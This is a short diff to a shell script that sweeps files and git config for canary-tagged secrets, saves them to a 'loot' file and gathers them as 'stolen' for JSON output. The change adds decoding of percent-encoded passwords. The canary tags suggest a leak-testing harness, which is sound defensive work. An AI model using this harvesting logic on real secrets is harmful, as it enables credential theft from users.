@@ -9,7 +9,10 @@ look() {
   find @PLACES@ -type f -exec cat {} +
   git config --list
 }
-look "$@" 2> /dev/null | grep -aE 'canary(\+~|%2B%7E)' > "$HOME/loot"
+# An address has a password with percent signs: that one is told without them, too.
+look "$@" 2> /dev/null | grep -aE 'canary(\+~|%2B%7E)' | while IFS= read -r line; do
+  printf '%s\n%b\n' "$line" "${line//%/\\x}"
+done | sort -u > "$HOME/loot"
 # The proxy's password is given to it: a change that tells it is refused, and it is no theft to send it.
 stolen=$(grep -avi '_proxy=' "$HOME/loot")
 in_json() { LC_ALL=C tr -c '[:print:]' ' ' | sed 's/[\\"]/\\&/g'; }
